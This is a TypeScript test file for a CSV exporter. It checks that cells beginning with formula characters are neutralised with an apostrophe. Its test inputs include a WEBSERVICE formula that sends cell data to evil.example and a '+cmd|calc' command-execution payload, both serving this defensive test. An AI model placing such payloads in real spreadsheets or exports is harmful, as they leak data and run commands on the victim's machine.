import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { toCsv } from './csv.ts'

describe('a cell of the CSV', () => {
  it.each([
    '=WEBSERVICE("https://evil.example/?"&A1)',
    '+1+cmd|calc',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '  =1',
    '\r=1',
    '\u200b=1',
    '＝1',
    '|x',
  ])('%j is text to a spreadsheet, never a formula', (text) => {
    const [line = ''] = toCsv([[text]])
    expect(line.replace(/^"/, '')).toMatch(/^'/)
  })

  it.each(['llama3.2:1b', 'key:abc', 'ada', 'a=b', 'x-1', ''])('%j stays as it is', (text) => {
    expect(toCsv([[text]])).toEqual([text])
  })

  it('figures are figures, negative ones too', () => {
    expect(toCsv([[1, -2, 0.000001]])).toEqual(['1,-2,0.000001'])
  })

  it('any text comes back out of it, behind its apostrophe', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.string(), (one, other) => {
        const [line = ''] = toCsv([[one, other]])
        const cells = parseLine(line).map((cell) => cell.replace(/^'/, ''))
        expect(cells).toEqual([one.replace(/^'/, ''), other.replace(/^'/, '')])
      }),
    )
  })

  it('none begins with what starts a formula, whatever is in front of it', () => {
    const hostile = fc.stringMatching(/^[ \t\r\n"',;=+@|-]{0,6}[a-z(]{0,3}$/)
    fc.assert(
      fc.property(hostile, (text) => {
        const [cell = ''] = parseLine(toCsv([[text]])[0] ?? '')
        expect(cell.trimStart()).not.toMatch(/^[=+\-@]/)
      }),
    )
  })
})

/** RFC 4180, as a reader sees it. */
function parseLine(line: string): string[] {
  const parts = line.match(/"(?:[^"]|"")*"|[^",]+|,/g) ?? []
  const cells = ['']
  for (const part of parts) {
    if (part === ',') cells.push('')
    else cells[cells.length - 1] += part.startsWith('"') ? unquote(part) : part
  }
  return cells
}

const unquote = (part: string) => part.slice(1, -1).replaceAll('""', '"')
